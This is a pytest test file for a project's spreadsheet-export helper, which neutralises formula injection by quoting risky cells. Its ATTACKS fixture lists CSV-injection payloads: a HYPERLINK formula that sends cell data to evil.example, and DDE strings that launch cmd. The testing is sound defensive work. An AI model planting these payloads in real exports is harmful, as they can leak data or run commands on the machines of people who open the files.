"""Formula-safe spreadsheet cells (ctip/core/spreadsheets.py): text that could run as a formula is quoted."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ctip.core.spreadsheets import FORMULA_START, Echo, csv_writer, safe_cell, xlsx_value

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_text_is_prefixed_with_a_quote(attack):
    assert safe_cell(attack) == "'" + attack
    assert xlsx_value(attack) == "'" + attack


@pytest.mark.parametrize(
    "value", ["", "plain", "person.create", "2025-01-10", "a=b", " =not at the start", "'already quoted", "5"]
)
def test_harmless_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("number", [-5, -1.5, Decimal("-3.25"), 0, 7, True, None])
def test_numbers_stay_numbers(number):
    # a numeric column keeps its negative values: "-5" is a number to a spreadsheet, not a formula
    assert safe_cell(number) is number
    assert xlsx_value(number) is number


def test_text_that_looks_like_a_negative_number_is_still_text():
    assert safe_cell("-5") == "'-5"


def test_other_objects_are_written_as_their_text():
    assert safe_cell({"a": 1}) == "{'a': 1}"
    assert safe_cell(dt.date(2025, 1, 2)) == "2025-01-02"
    assert xlsx_value(dt.date(2025, 1, 2)) == dt.date(2025, 1, 2)


def test_csv_writer_neutralises_every_cell():
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow(["reason", ATTACKS[0], -5])
    writer.writerows([[ATTACKS[1]], ["ok"]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["reason", "'" + ATTACKS[0], "-5"], ["'" + ATTACKS[1]], ["ok"]]


def test_streamed_rows_are_returned_by_the_echo_buffer():
    assert csv_writer(Echo()).writerow(["=1+1", 2]) == "'=1+1,2\r\n"


def test_openpyxl_stores_neutralised_text_as_text_not_a_formula():
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append([xlsx_value(v) for v in ["=1+1", -4, "plain"]])
    out = io.BytesIO()
    book.save(out)
    row = next(openpyxl.load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(values_only=True))
    assert row == ("'=1+1", -4, "plain")
    # without the helper the same cell would be a formula
    assert openpyxl.Workbook().active.cell(1, 1, "=1+1").data_type == "f"


@given(st.text())
def test_no_cell_written_starts_a_formula(text):
    cell = safe_cell(text)
    # then the cell never starts with a formula character, and the text is kept in full after at most one quote
    assert not cell.startswith(FORMULA_START)
    assert cell in (text, "'" + text)
    assert (cell == text) == (not text.startswith(FORMULA_START))


@given(st.lists(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False), st.none()), max_size=6))
def test_no_csv_field_read_back_starts_a_formula_unless_it_is_a_number(row):
    buffer = io.StringIO()
    csv_writer(buffer).writerow(row)
    [fields] = list(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) or [[]]
    for value, field in zip(row, fields, strict=False):
        if isinstance(value, str):
            assert not field.startswith(FORMULA_START)
        elif isinstance(value, int | float):
            assert field == str(value)  # written as the number it is


def test_no_module_writes_a_spreadsheet_without_the_helper():
    """csv.writer, csv.DictWriter and openpyxl.Workbook are used only in ctip/core/spreadsheets.py (tests aside)."""
    import ast
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    WRITERS = {"writer", "DictWriter", "Workbook"}  # noqa: N806
    direct = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or path.name == "spreadsheets.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            attribute = (
                isinstance(node, ast.Attribute)
                and node.attr in WRITERS
                and isinstance(node.value, ast.Name)
                and node.value.id in {"csv", "openpyxl"}
            )
            imported = (
                isinstance(node, ast.ImportFrom)
                and node.module in {"csv", "openpyxl"}
                and bool({a.name for a in node.names} & WRITERS)
            )
            if attribute or imported:
                direct.append(f"{path.relative_to(root)}:{node.lineno}")
    assert direct == [], "write spreadsheets through ctip.core.spreadsheets"
